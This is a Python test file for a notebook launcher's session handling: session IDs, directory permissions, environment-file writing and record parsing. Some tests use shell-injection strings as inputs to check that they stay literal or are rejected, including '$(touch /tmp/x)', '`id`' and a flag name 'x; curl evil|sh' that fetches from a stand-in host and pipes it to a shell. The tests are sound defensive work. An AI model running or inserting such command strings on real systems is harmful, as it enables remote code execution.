"""Sessions: their names, their files in real directories on this machine, and finding them again."""

from __future__ import annotations

import json
import os
import re
import secrets
from dataclasses import fields, replace
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from notebook_launcher.core.command_result import CommandResult
from notebook_launcher.core.errors import HostCommandFailed
from notebook_launcher.core.frozen import complete
from notebook_launcher.core.package_data import JOB_FILES, job_script
from notebook_launcher.core.request import Request
from notebook_launcher.hosts.local import LocalHost
from notebook_launcher.jobs.session_index import parse_listing
from notebook_launcher.profiles import Environment
from notebook_launcher.schedulers.base import JobRef
from notebook_launcher.session.record import (
    SESSION_ID,
    Session,
    SessionRecord,
    Site,
    discard_session,
    environment_lines,
    inspect_host,
    json_object,
    new_id,
    new_session,
    read_job,
    record_in,
    session_files,
)
from tests.fuzzing import JSON_VALUES, TIMES

HOST = LocalHost()
NOW = datetime(2026, 11, 21, 1, 44, 55, tzinfo=timezone(timedelta(hours=1)))
IDS = ["20261121-014455-aaaa", "20261121-014455-aabb", "20261122-090000-cccc"]


def session_at(root: Path, name: str = "", **flags: str | None) -> Session:
    session = new_session(
        str(root), Request(flags), scheduler="slurm", cluster="uni", host=None, environment="tf-gpu", now=NOW
    )
    if name:
        record = replace(session.record, id=name)
        session = Session(record, f"{root}/{name}")
    return session


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """Three sessions; the last one has ended."""
    for name in IDS:
        session = session_at(tmp_path, name)
        HOST.write_files(session.directory, session_files(session, "", "token", {}))
    (tmp_path / IDS[2] / "exit.json").write_text("{}")
    return tmp_path


# --- names ---------------------------------------------------------------------------------------------------


def test_names_are_unique_within_a_second() -> None:
    names = {new_id(NOW) for _ in range(100)}
    assert len(names) >= 99  # 2^20 names a second: one meeting among 100 may happen in a lifetime, two will not
    assert all(name.startswith("20261121-014455-") and SESSION_ID.fullmatch(name) for name in names)


def test_a_new_session_knows_where_everything_will_be(tmp_path: Path) -> None:
    session = session_at(tmp_path, time="2:00:00")
    assert session.directory == f"{tmp_path}/{session.id}"
    assert session.submission.script == f"{session.directory}/jupyterlab.sh"
    assert session.record.log == session.submission.log == f"{session.directory}/job.log"
    assert session.record.flags == {"time": "2:00:00"}
    assert session_at(tmp_path, output="mine.log").record.log == "mine.log"
    assert list(tmp_path.iterdir()) == []


# --- the site ------------------------------------------------------------------------------------------------


def test_this_machine_as_a_site() -> None:
    site = inspect_host(HOST)
    assert site.home == os.environ["HOME"]
    assert site.now.tzinfo is not None
    assert abs(site.now - datetime.now(timezone.utc)) < timedelta(seconds=5)


class Saying(LocalHost):
    """A host that always gives the same answer."""

    label = "login"

    def __init__(self, answer: CommandResult) -> None:
        self.answer = answer

    def run(self, argv: object, **_others: object) -> CommandResult:
        return self.answer


def test_a_start_up_file_that_prints_does_no_harm() -> None:
    site = inspect_host(
        Saying(CommandResult(0, "Welcome!\nQuota: 50%\n/home/alice\nalice\nlogin1\n2026-11-21T01:44:55+0545\n"))
    )
    assert (site.home, site.user, site.hostname) == ("/home/alice", "alice", "login1")
    assert site.now.utcoffset() == timedelta(hours=5, minutes=45)


@pytest.mark.parametrize(
    "answer",
    [CommandResult(0), CommandResult(1, "", "This account is closed.\n"), CommandResult(0, "a\nb\nc\nnot a date\n")],
)
def test_a_host_without_a_shell_is_told(answer: CommandResult) -> None:
    with pytest.raises(HostCommandFailed, match="login does not run simple commands") as caught:
        inspect_host(Saying(answer))
    assert caught.value.why == (answer.stderr or answer.stdout).strip()


SITE = Site("/home/al $ice", "alice", "login1", NOW)


@pytest.mark.parametrize(
    ("path", "expanded"),
    [
        ("~", "/home/al $ice"),
        ("~/x", "/home/al $ice/x"),
        ("$HOME/x", "/home/al $ice/x"),
        ("${HOME}x", "/home/al $icex"),
        ("/scratch/$USER/s", "/scratch/alice/s"),
        ("/scratch/${USER}/~/s", "/scratch/alice/~/s"),
        ("~bob/x", "~bob/x"),
        ("$HOMER/x", "$HOMER/x"),
        ("$(id)/`id`/$PATH", "$(id)/`id`/$PATH"),
        ("/a~/b", "/a~/b"),
        ("~/a:~/b", "/home/al $ice/a:~/b"),
    ],
)
def test_paths_are_filled_in_as_they_are_there(path: str, expanded: str) -> None:
    assert SITE.expand(path) == expanded


# --- session.env ---------------------------------------------------------------------------------------------

LINE = st.text(alphabet=st.characters(exclude_characters="\n\r\0", exclude_categories=["Cs"]), min_size=1, max_size=30)


def read_back(text: str) -> list[tuple[str, str]]:
    """Read ``session.env`` as the job script does: the key up to the first =, the value literally."""
    assert text.endswith("\n")
    pairs = [line.partition("=")[::2] for line in text[:-1].split("\n")]
    return [(key, value) for key, value in pairs]


def test_what_an_environment_becomes() -> None:
    environment = Environment(
        container="a.sif",
        container_command="singularity",
        bind=("/proj", "/sw:/sw"),
        modules=("gcc/13", "cuda/12"),
        module_use=("/sw/modules",),
        conda="dl",
        venv="/v",
        activate=("one", "two"),
        env={"A": "1=2"},
        gpu="none",
        start_timeout=60,
    )
    assert read_back(environment_lines(environment, container="/images/b.sif", path=("/opt/bin",))) == [
        ("setenv", "A=1=2"),
        ("module_use", "/sw/modules"),
        ("module", "gcc/13"),
        ("module", "cuda/12"),
        ("container", "/images/b.sif"),
        ("container_command", "singularity"),
        ("bind", "/proj"),
        ("bind", "/sw:/sw"),
        ("conda", "dl"),
        ("venv", "/v"),
        ("activate", "one"),
        ("activate", "two"),
        ("path", "/opt/bin"),
        ("gpu", "none"),
        ("start_timeout", "60"),
    ]


def test_a_plain_environment_says_next_to_nothing() -> None:
    assert read_back(environment_lines(Environment())) == [("gpu", "auto"), ("start_timeout", "600")]


@given(st.lists(LINE, max_size=4), LINE, LINE)
def test_a_value_is_one_line_and_literal(modules: list[str], activate: str, value: str) -> None:
    environment = Environment(modules=tuple(modules), activate=activate, env={"NAME": value})
    pairs = read_back(environment_lines(environment))
    assert [found for key, found in pairs if key == "module"] == modules
    assert [found for key, found in pairs if key == "activate"] == [activate]
    assert [found for key, found in pairs if key == "setenv"] == [f"NAME={value}"]


@pytest.mark.parametrize("evil", ["$(touch /tmp/x)", "`id`", "'; id; '", '"$HOME"', "a b  c", "\\", "é=ü"])
def test_shell_characters_stay_as_they_are(evil: str) -> None:
    pairs = dict(read_back(environment_lines(Environment(conda=evil), container=evil)))
    assert (pairs["conda"], pairs["container"]) == (evil, evil)


# --- the directory -------------------------------------------------------------------------------------------


def test_a_written_session(tmp_path: Path) -> None:
    session = session_at(tmp_path / "sessions", comment="$(id) 'x'")
    HOST.write_files(session.directory, session_files(session, "gpu=none\n", "a token", {}))
    directory = Path(session.directory)
    names = {path.name for path in directory.iterdir()}
    assert names == {"session.json", "session.env", "token", "job.log", "scripts.sha256", *JOB_FILES}
    assert directory.stat().st_mode & 0o777 == 0o700
    assert {path.stat().st_mode & 0o777 for path in directory.iterdir()} == {0o600}
    assert (directory / "token").read_text() == "a token"
    assert "a token" not in (directory / "session.json").read_text()
    assert (directory / "session.env").read_text() == "gpu=none\n"
    assert (directory / "job.log").read_text() == ""
    assert record_in((directory / "session.json").read_bytes()) == session.record


def test_only_a_sessions_directory_is_ever_removed(tmp_path: Path, root: Path) -> None:
    session = session_at(root, IDS[0])
    discard_session(HOST, session)
    assert not Path(session.directory).exists()
    precious = tmp_path / "precious"
    precious.mkdir()
    discard_session(HOST, Session(session.record, str(precious)))
    discard_session(HOST, Session(session.record, f"{tmp_path}/"))
    assert precious.exists()
    assert (root / IDS[1]).exists()


# --- its record ----------------------------------------------------------------------------------------------


def test_what_was_written_is_listed(tmp_path: Path) -> None:
    """The script that lists is the other half of what is written here; more of it is in test_catalogue.py."""
    session = session_at(tmp_path, time="2:00:00")
    HOST.write_files(session.directory, session_files(session, "", "token", {}))
    script = job_script("sessions.sh").read_bytes()
    answer = HOST.run(["bash", "-s", "--", str(tmp_path)], stdin=script)
    (record,) = parse_listing(answer.stdout, str(tmp_path), NOW).records
    assert record.session == session
    assert record.has_secrets and record.exited is None


@pytest.mark.parametrize("text", ["", "{", "[]", '{"id": 1}', "null", '{"id": "x", "created": "soon"}'])
def test_a_damaged_record_is_told(text: str) -> None:
    told = f"sessions 1\n{IDS[0]} session {text}\nend\n"
    assert parse_listing(told, "/root", NOW).damaged == (IDS[0],)


def test_a_record_of_a_later_version_is_read(tmp_path: Path) -> None:
    session = session_at(tmp_path)
    text = json.dumps(json.loads(session.record.as_json()) | {"version": 7, "mood": "sunny"})
    (record,) = parse_listing(f"sessions 1\n{session.id} session {text}\nend\n", str(tmp_path), NOW).records
    assert record.session.record.version == 7


# --- its job -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("noted", "started", "job"),
    [
        ("7\n", None, JobRef("7")),
        ("7;snowy\n", None, JobRef("7", "snowy")),
        ("Welcome to the cluster\n7;snowy\nlua: charged to proj1\n", None, JobRef("7", "snowy")),
        ("20261121-014455-k3f9\n", None, JobRef("20261121-014455-k3f9")),
        ("1234.server\n", None, JobRef("1234.server")),
        ("6\n7\nThanks!\n", None, JobRef("7")),
        ("$(id);x\n", '{"job": "8"}', JobRef("8")),
        (None, '{"job": "--user=alice"}', None),
        ("7;snowy\n", '{"job": "8"}', JobRef("7", "snowy")),
        (None, '{"version": 1, "job": "8", "node": "node1"}', JobRef("8")),
        ("", '{"job": "8"}', JobRef("8")),
        (None, None, None),
        ("", "", None),
        (None, "{", None),
        (None, "[]", None),
        (None, '{"job": ""}', None),
    ],
)
def test_the_job_of_a_session(tmp_path: Path, noted: str | None, started: str | None, job: JobRef | None) -> None:
    if noted is not None:
        (tmp_path / "job").write_text(noted)
    if started is not None:
        (tmp_path / "started.json").write_text(started)
    assert read_job(HOST, str(tmp_path)) == job


def test_a_records_times_keep_their_zone(tmp_path: Path) -> None:
    record = session_at(tmp_path).record
    again = record_in(record.as_json())
    assert again == record
    assert again.created.utcoffset() == timedelta(hours=1)


VALUES = st.text(max_size=5) | st.dictionaries(st.text(max_size=4), st.none() | st.text(max_size=4)) | JSON_VALUES
LATER = st.fixed_dictionaries(
    {"id": st.just(IDS[0]) | JSON_VALUES, "created": TIMES | JSON_VALUES},
    optional={key: VALUES for key in (*SessionRecord.__annotations__, "stream", "x") if key not in ("id", "created")},
)
JOBS = st.text(max_size=9) | st.sampled_from(["7", "7;snowy", "Job <7> is submitted", "9" * 5000])
WHOLE = {"id": IDS[0], "created": "2026-11-21T01:44:55Z", "scheduler": "slurm", "flags": {}, "log": "/l"}


def test_every_field_of_a_record_is_read() -> None:
    """The type of each is known to what checks it, in whatever way it is written."""
    values = {
        "int": 5,
        "str": "x",
        "str | None": "x",
        "datetime": NOW,
        "tuple[str, ...]": ("a.py",),
        "Program": "shell",
    }
    complete(SessionRecord)
    whole = SessionRecord(
        **{one.name: values[str(one.type)] for one in fields(SessionRecord) if one.name != "flags"},
        flags={"time": "2:00:00", "exclusive": None},
    )
    assert record_in(whole.as_json()) == whole
    optional = {one.name: None for one in fields(SessionRecord) if str(one.type) == "str | None"}
    assert record_in(replace(whole, **optional).as_json()) == replace(whole, **optional)


@pytest.mark.parametrize("name", ["x; curl evil|sh", "--x", "", "a b", "$(id)", "x" * 61])
def test_a_name_that_no_flag_can_have_is_not_read(name: str) -> None:
    """The flags are shown as a command to type."""
    assert record_in(json.dumps({**WHOLE, "flags": {name: "1", "time": "5"}})).flags == {"time": "5"}


@settings(deadline=None)
@given(LATER | JSON_VALUES, JOBS, JSON_VALUES)
@example(WHOLE, "7", {"job": []})
def test_any_files_are_a_session_or_a_damaged_one(record: object, job: str, started: object) -> None:
    """Those of a directory: whatever JSON they hold, the list of sessions is made."""
    line = json.dumps(record).replace("\n", " ")
    files = f"{IDS[0]} job {job.splitlines()[0] if job.splitlines() else ''}\n{IDS[0]} started {json.dumps(started)}\n"
    listing = parse_listing(f"sessions 1\n{IDS[0]} session {line}\n{files}end\n", "/root", NOW)
    assert listing.whole and len(listing.records) + len(listing.damaged) == 1
    for found in listing.records:
        assert found.session.id == IDS[0] and found.session.directory == f"/root/{IDS[0]}"
        assert found.session.job is None or re.fullmatch(r"\d[\w.-]*", found.session.job.id, re.A)
        json.loads(found.session.record.as_json())


@given(st.binary(max_size=40) | JSON_VALUES.map(lambda value: json.dumps(value).encode()))
@example(b"[" * 100_000)
@example(b'{"a": ' * 100_000)
@example(b'{"a": ' + b"9" * 5000 + b"}")
@example(b'{"a": NaN}')
@example(b"\xff\xfe{")
def test_any_file_is_an_object_or_an_empty_one(content: bytes) -> None:
    assert isinstance(json_object(content), dict)
    assert isinstance(json_object(content.decode(errors="replace")), dict)


def test_a_session_can_be_named_by_its_end(monkeypatch: pytest.MonkeyPatch) -> None:
    """Digits alone are the number of a job."""
    drawn = iter("22345a67")
    monkeypatch.setattr(secrets, "choice", lambda _: next(drawn))
    assert new_id(datetime(2026, 11, 21, 1, 44, 55)) == "20261121-014455-5a67"
